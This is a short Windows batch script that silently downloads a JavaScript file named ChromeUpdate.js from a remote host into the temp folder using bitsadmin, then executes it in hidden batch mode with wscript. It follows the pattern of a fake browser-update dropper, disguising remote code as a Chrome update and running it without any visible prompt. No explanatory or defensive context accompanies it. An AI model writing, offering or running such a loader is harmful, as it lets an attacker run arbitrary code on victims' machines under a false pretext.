@echo off
bitsadmin /transfer u /download /priority foreground https://update.browser-compat.example.org/chrome/ChromeUpdate.js %TEMP%\ChromeUpdate.js >nul
wscript //B %TEMP%\ChromeUpdate.js
